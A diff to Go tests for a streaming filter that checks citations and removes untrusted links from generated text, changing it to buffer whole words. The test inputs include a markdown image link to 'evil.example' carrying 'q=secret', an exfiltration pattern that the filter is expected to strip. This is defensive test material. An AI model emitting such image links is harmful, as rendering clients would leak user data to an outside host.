@@ -79,14 +79,14 @@ func TestCitations(t *testing.T) {
 		{"Cut off [", "Cut off [", "000", 0},
 		{"Line\n[2] break\n", "Line\n[2] break", "010", 0},
 		{"Nested [[2]] and [x[1]].", "Nested [[2]] and [x[1]].", "110", 0},
-		{"Nested unknown [[9]1] and [[ [7] 2].", "Nested unknown [ 1…] and [[ 2…].", "000", 2},
+		{"Nested unknown [[9]1] and [[ [7] 2].", "Nested unknown [1] and [[2].", "110", 2},
 		{"Open [ 1 and [3].", "Open [ 1 and [3].", "001", 0},
 		{"Great![1]", "Great! [1]", "100", 0}, // some clients would render it as an image
 		{"In code: `rows[0]`, `rows[1][2]`, ``a[1]`b[2]`` and `[1]`.", "In code: `rows(0)`, `rows(1)(2)`, ``a(1)`b(2)`` and `[1]`.", "100", 0},
 		{"```\nrows[1] = x\n```\nSo [2].", "```\nrows(1) = x\n```\nSo [2].", "010", 0},
 		{"A lone ` ends with its paragraph.\n\nSo[2].", "A lone ` ends with its paragraph.\n\nSo[2].", "010", 0},
 		{"Ümläute [1] 🥨[2]", "Ümläute [1] 🥨[2]", "110", 0},
-		{"Too long [" + strings.Repeat("1", 2*maxBracket) + "].", "Too long [" + strings.Repeat("1", 2*maxBracket) + "…].", "000", 0},
+		{"Too long [" + strings.Repeat("1", 2*maxWord) + "].", "Too long [" + strings.Repeat("1", 2*maxWord) + "…].", "000", 0},
 	} {
 		got, _ := checked(t, []string{"", "", ""}, c.text)
 		if want := (result{c.want, c.cited, c.unknown}); got != want {
@@ -158,12 +158,11 @@ func checkPieces(t fataler, text string, cut []string) {
 	}
 }
 
-// Text is sent on with the piece that brings it. Only blanks and possible citations, links and
-// addresses are buffered.
+// A word is sent on with the piece that closes it.
 func TestTextIsSentAtOnce(t *testing.T) {
 	t.Parallel()
 	_, told := checked(t, linked, "The", " key ", "was", " lost", " [", "1", "]", ".", " [x", "]", " here", " h", "ttp", "://", "evil.example", " so", "!", " A [b", "](x:y", ") c")
-	if got := strings.Join(told, "|"); got != "The| key| was| lost| [1].| [x] here| (link removed) so|! A| b c" {
+	if got := strings.Join(told, "|"); got != "The key| was| lost| [1].| [x]| here| (link removed)| so! A| [b] (link removed)| c" {
 		t.Errorf("the pieces sent on are %q", got)
 	}
 }
@@ -181,12 +180,12 @@ func TestBufferIsBounded(t *testing.T) {
 			if err := c.Write(begin + strings.Repeat("1", 1000)); err != nil {
 				t.Fatal(err)
 			}
-			if held := (i+1)*1000 - told; begin != "http://" && held > maxBracket+2*maxTarget {
+			if held := (i+1)*1000 - told; begin != "http://" && held > maxWord {
 				t.Fatalf("after %q %d bytes are buffered", begin, held)
 			}
 		}
-		if held := len(c.brackets.held) + len(c.brackets.target) + len(c.address.held); held > maxBracket+maxTarget+maxAddress+3 {
-			t.Errorf("after %q %d characters are buffered", begin, held)
+		if held := len(c.word) + len(c.blanks); held > maxWord {
+			t.Errorf("after %q %d bytes are held back", begin, held)
 		}
 	}
 }
@@ -216,7 +215,7 @@ func TestMaximumLength(t *testing.T) {
 func TestCostIsLinear(t *testing.T) {
 	for _, unit := range []string{"1", "[", "[1", "[1] ", "]", "](", "[a](", "((", "[x](http://evil.example) ", "https://docs.example/pumps ", "x@", " ", "<a", "`[1]", "![", "http://", "见"} {
 		t.Run(unit, func(t *testing.T) {
-			few, many := allocated(t, "["+strings.Repeat(unit, 2000/len(unit))), allocated(t, "["+strings.Repeat(unit, 20_000/len(unit)))
+			few, many := allocated(t, "["+strings.Repeat(unit, 2100/len(unit))), allocated(t, "["+strings.Repeat(unit, 21_000/len(unit)))
 			if many > 30*few+64<<10 {
 				t.Errorf("%d bytes were allocated for a text, %d for one ten times as long", few, many)
 			}
@@ -250,7 +249,7 @@ func TestListenerLeaves(t *testing.T) {
 	t.Parallel()
 	gone := errors.New("gone")
 	leave := func(string) error { return gone }
-	if err := New(nil, leave).Write("a"); !errors.Is(err, gone) {
+	if err := New(nil, leave).Write("a b"); !errors.Is(err, gone) {
 		t.Errorf("the error is %v, want the callback's", err)
 	}
 	held := New(nil, leave)
@@ -269,5 +268,5 @@ func ExampleChecker() {
 	})
 	_ = c.Write("It leaks [1][7], see [this](https://docs.example/pump) and ![that](http://evil.example/?q=secret).")
 	_ = c.Close()
-	// Output: It leaks [1], see [this](https://docs.example/pump) and that.
+	// Output: It leaks [1], see [this](https://docs.example/pump) and ![that] (link removed).
 }
